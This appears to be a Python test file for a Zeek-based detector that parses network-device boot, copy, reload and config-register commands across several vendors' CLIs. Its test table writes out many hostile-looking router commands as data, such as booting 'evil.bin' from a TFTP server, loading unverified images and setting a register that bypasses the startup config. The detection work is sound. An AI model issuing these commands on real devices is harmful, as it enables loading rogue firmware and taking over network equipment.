"""Which lines are boot lines, and what they name: the table of forms against lines as people and devices write them."""

from __future__ import annotations

from pathlib import Path

from bootwarden.engines.find import Engine
from zeek_scripts import evaluate, literal

# Line: what it does, server, file.
LINES: dict[str, tuple[str, str, str]] = {
    # IOS, whole and shortened, with the file before or after the host, in any case.
    "boot system tftp://10.0.0.66/evil.bin": ("boot", "10.0.0.66", "evil.bin"),
    "boot system tftp evil.bin 10.0.0.66": ("boot", "10.0.0.66", "evil.bin"),
    "boot system tftp 10.0.0.66 evil.bin": ("boot", "10.0.0.66", "evil.bin"),
    "boot system tftp evil.bin": ("boot", "", "evil.bin"),
    "boot system evil.bin 10.0.0.66": ("boot", "10.0.0.66", "evil.bin"),
    "bo sys tf x 1.1.1.1": ("boot", "1.1.1.1", "x"),
    "BOOT SYSTEM TFTP Evil.bin 10.0.0.66": ("boot", "10.0.0.66", "Evil.bin"),
    "do copy tftp://10.0.0.66/a/b.bin flash:": ("copy", "10.0.0.66", "a/b.bin"),
    "boot system ftp://cisco:secret@10.0.0.66:2121/evil.bin": ("boot", "10.0.0.66", "evil.bin"),
    "boot system tftp://255.255.255.255/evil.bin": ("boot", "", "evil.bin"),
    "boot system tftp://[2001:db8::66]/evil.bin": ("boot", "2001:db8::66", "evil.bin"),
    "boot network tftp://boot.example.net/network-confg": ("config", "boot.example.net", "network-confg"),
    "boot host tftp edge1-confg 10.0.0.66": ("config", "10.0.0.66", "edge1-confg"),
    "boot host dhcp": ("", "", ""),
    "service config": ("config", "", ""),
    "service config-register": ("", "", ""),
    "service conf": ("config", "", ""),
    "config-register 0x2142": ("register", "", ""),
    "config-register 0x0": ("register", "", ""),
    "config-register 0x2102": ("", "", ""),
    "config-register 0xF": ("", "", ""),
    "tftp-server flash:c2900.bin alias x": ("serve", "", "c2900.bin"),
    "snmp-server system-shutdown": ("reload", "", ""),
    "snmp-server community secret RW": ("", "", ""),
    # Executive commands; uploads take nothing from the network.
    "copy tftp: flash:": ("copy", "", ""),
    "copy tftp flash": ("copy", "", ""),
    "copy tftp flash 10.0.0.66 KB_16.swi primary": ("copy", "10.0.0.66", "KB_16.swi"),
    "copy running-config tftp://10.0.0.66/x": ("", "", ""),
    "copy flash:x tftp:": ("", "", ""),
    "copy running-config startup-config": ("", "", ""),
    "copyright tftp": ("", "", ""),
    "copy /noverify tftp://10.0.0.66/x.bin flash:": ("copy", "10.0.0.66", "x.bin"),
    "configure replace tftp://10.0.0.66/c force": ("config", "10.0.0.66", "c"),
    "configure terminal": ("", "", ""),
    "configure network": ("config", "", ""),
    "archive download-sw /overwrite /reload tftp://10.0.0.66/c3750.tar": ("copy", "10.0.0.66", "c3750.tar"),
    "install add file tftp://10.0.0.66/cat9k.bin activate commit": ("copy", "10.0.0.66", "cat9k.bin"),
    "software install file tftp://10.0.0.66/cat3k.bin": ("copy", "10.0.0.66", "cat3k.bin"),
    "upgrade rom-monitor file tftp://10.0.0.66/rom.pkg": ("copy", "10.0.0.66", "rom.pkg"),
    "tclsh tftp://10.0.0.66/f.tcl": ("config", "10.0.0.66", "f.tcl"),
    'action 2.0 cli command "copy tftp://10.0.0.66/e running-config"': ("copy", "10.0.0.66", "e"),
    # Loaders.
    "boot tftp://10.0.0.66/n3100.bin": ("boot", "10.0.0.66", "n3100.bin"),
    "boot tftp:": ("boot", "", ""),
    "b evil 10.0.0.66": ("boot", "10.0.0.66", "evil"),
    "boot tftp:c1700-y-mz.bin 10.2.1.22": ("boot", "10.2.1.22", "c1700-y-mz.bin"),
    "tftpdnld -r": ("boot", "", ""),
    "TFTP_SERVER=10.0.0.66": ("set", "10.0.0.66", ""),
    "TFTP_FILE=evil.bin": ("set", "", "evil.bin"),
    "setenv serverip 10.0.0.66": ("set", "10.0.0.66", ""),
    # Other vendors.
    "request system software add tftp://10.0.0.66/j.tgz no-validate": ("copy", "10.0.0.66", "j.tgz"),
    "request system reboot": ("reload", "", ""),
    "load override tftp://10.0.0.66/j.conf": ("config", "10.0.0.66", "j.conf"),
    "tftp 10.0.0.66 get vrp.cc": ("copy", "10.0.0.66", "vrp.cc"),
    "tftp 10.0.0.66 put vrp.cc": ("", "", ""),
    "auto-tftp 10.0.0.66 KB_evil.swi": ("boot", "10.0.0.66", "KB_evil.swi"),
    "execute restore image tftp fgt.out 10.0.0.66": ("copy", "10.0.0.66", "fgt.out"),
    # Restarts.
    "reload": ("reload", "", ""),
    "relo in 5": ("reload", "", ""),
    "reload cancel": ("", "", ""),
    "reload ?": ("", "", ""),
    "reboot": ("reload", "", ""),
    # Looking, removing, local sources, prose.
    "show running-config | include boot system tftp": ("", "", ""),
    "no boot system tftp://10.0.0.66/evil.bin": ("", "", ""),
    "default boot system": ("", "", ""),
    "undo startup system-software": ("", "", ""),
    "! boot system tftp://10.0.0.66/evil.bin": ("", "", ""),
    "boot system flash:c2900.bin": ("", "", ""),
    "boot system switch all flash:/x.bin": ("", "", ""),
    "boot system switch all tftp://10.0.0.66/x.bin": ("boot", "10.0.0.66", "x.bin"),
    "boot-start-marker": ("", "", ""),
    "boot the system by tftp these days": ("", "", ""),
    "description boot system tftp://10.0.0.66/evil.bin": ("", "", ""),
    "boot system tftp ?": ("", "", ""),
    "banner motd tftp://10.0.0.66/x": ("", "", ""),
    "install it from the server": ("", "", ""),
    "": ("", "", ""),
    "boot": ("", "", ""),
}

# What is typed, and what it becomes.
EDITED = {
    "reload": "reload",
    "show\b\b\b\breload": "reload",
    "\x7f\x7freload": "reload",
    "no shut\x15reload": "reload",
    "boot sys\ttftp x": "boot sys tftp x",
    "copy oops\x17tftp: flash:": "copy tftp: flash:",
    "relo\x1b[Dad": "reload",
}


def meaning(line: str) -> str:
    """A Zeek expression: what a line does, the server and the file that it names."""
    call = f"boot_line({literal(line)})"
    named = ", ".join(f'{call}?${field} ? {call}${field} : ""' for field in ("server", "file_name"))
    return f'fmt("%s|%s|%s", {call}$act, {named})'


def test_boot_lines(zeek: Engine, tmp_path: Path) -> None:
    found = dict(zip(LINES, evaluate(zeek, tmp_path, [meaning(line) for line in LINES]), strict=True))
    assert found == {line: "|".join(expected) for line, expected in LINES.items()}


def test_no_password_is_kept(zeek: Engine, tmp_path: Path) -> None:
    lines = ["boot system ftp://cisco:hunter2@10.0.0.66/x", "copy http://u:hunter2@10.0.0.66/x flash:"]
    found = evaluate(zeek, tmp_path, [f"boot_line({literal(line)})" for line in lines])
    assert len(found) == 2
    assert "hunter2" not in "".join(found)
    assert all("10.0.0.66" in line for line in found)


def test_line_editing(zeek: Engine, tmp_path: Path) -> None:
    found = evaluate(zeek, tmp_path, [f"edited_line({literal(typed)})" for typed in EDITED])
    assert dict(zip(EDITED, found, strict=True)) == EDITED
